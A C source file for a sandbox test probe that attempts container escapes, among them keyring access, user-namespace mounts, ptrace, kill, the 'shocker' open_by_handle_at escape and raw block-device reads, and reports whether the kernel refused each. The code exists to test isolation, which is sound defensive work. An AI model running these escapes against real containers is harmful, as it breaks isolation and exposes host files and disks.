/* The hostile suite's one probe, built static at test time (gcc -static) and copied into the
 * attacker image as /probe: each subcommand tries one escape that busybox cannot express and says
 * what the kernel answered, on one line:
 *     REFUSED <step> <errno name>     the attack stopped there (exit 0)
 *     ESCAPED <what it got>           the attack worked (exit 1)
 *     usage / set-up errors           exit 2
 * A step that succeeds on the way (e.g. mknod, which the devices cgroup allows) is not a verdict:
 * only the step that would give the attacker something counts.
 *
 *   keyctl                 add_key("user", ...) to the session keyring, then KEYCTL_READ of it
 *   userns-mount           unshare(CLONE_NEWUSER|CLONE_NEWNS), map root, mount proc on /mnt
 *   sethostname NAME       sethostname(NAME)
 *   ptrace PID             ptrace(PTRACE_ATTACH, PID)
 *   kill PID               kill(PID, SIGKILL)
 *   shocker                open_by_handle_at(fd of /etc/hosts, handle of inode 2 = the root
 *                          directory of the filesystem /etc/hosts is bind-mounted from), as the
 *                          2014 "shocker" exploit does; on success lists what it opened
 *   blockdev MAJ MIN       mknod a block device MAJ:MIN and read its first sector
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int refused(const char *step)
{
    printf("REFUSED %s %s\n", step, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    return 0;
}

static int escaped(const char *what)
{
    printf("ESCAPED %s\n", what);
    return 1;
}

static int keyctl_attack(void)
{
    /* KEY_SPEC_SESSION_KEYRING = -3; KEYCTL_READ = 11 */
    long id = syscall(SYS_add_key, "user", "pybuild-hostile", "secret", 6, -3);
    if (id < 0)
        return refused("add_key");
    char buf[64];
    long n = syscall(SYS_keyctl, 11, id, buf, sizeof buf, 0);
    if (n < 0)
        return refused("keyctl_read");
    return escaped("added and read back a key in the session keyring");
}

static int write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n < 0 ? -1 : 0;
}

static int userns_mount(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return refused("unshare");
    write_file("/proc/self/setgroups", "deny");
    if (write_file("/proc/self/uid_map", "0 0 1") != 0)
        return refused("uid_map");
    mkdir("/mnt", 0755);
    if (mount("proc", "/mnt", "proc", 0, NULL) != 0)
        return refused("mount");
    return escaped("mounted proc inside a new user namespace");
}

static int shocker(void)
{
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned char f_handle[8];
    } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};   /* FILEID_INO32_GEN: inode 2, generation 0 */
    int mfd = open("/etc/hosts", O_RDONLY);
    if (mfd < 0)
        mfd = open("/", O_RDONLY | O_DIRECTORY);
    if (mfd < 0) {
        perror("open");
        return 2;
    }
    int fd = open_by_handle_at(mfd, (struct file_handle *)&h, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return refused("open_by_handle_at");
    DIR *d = fdopendir(fd);
    struct dirent *e;
    char what[512] = "opened the outer filesystem's root:";
    while (d && (e = readdir(d)) && strlen(what) < 400) {
        strcat(what, " ");
        strcat(what, e->d_name);
    }
    return escaped(what);
}

static int blockdev(const char *maj, const char *min)
{
    const char *path = "/tmp/.hostile-disk";
    unlink(path);
    if (mknod(path, S_IFBLK | 0600, makedev(atoi(maj), atoi(min))) != 0)
        return refused("mknod");
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        refused("open");
        unlink(path);
        return 0;
    }
    char sector[512];
    ssize_t n = read(fd, sector, sizeof sector);
    close(fd);
    unlink(path);
    if (n <= 0)
        return refused("read");
    return escaped("read the host disk's first sector");
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *cmd = argc > 1 ? argv[1] : "";
    if (!strcmp(cmd, "keyctl"))
        return keyctl_attack();
    if (!strcmp(cmd, "userns-mount"))
        return userns_mount();
    if (!strcmp(cmd, "sethostname") && argc == 3)
        return sethostname(argv[2], strlen(argv[2])) ? refused("sethostname") : escaped("sethostname");
    if (!strcmp(cmd, "ptrace") && argc == 3)
        return ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0) ? refused("ptrace") : escaped("attached");
    if (!strcmp(cmd, "kill") && argc == 3)
        return kill(atoi(argv[2]), SIGKILL) ? refused("kill") : escaped("killed");
    if (!strcmp(cmd, "shocker"))
        return shocker();
    if (!strcmp(cmd, "blockdev") && argc == 4)
        return blockdev(argv[2], argv[3]);
    fprintf(stderr, "usage: probe keyctl|userns-mount|sethostname NAME|ptrace PID|kill PID|shocker|blockdev MAJ MIN\n");
    return 2;
}
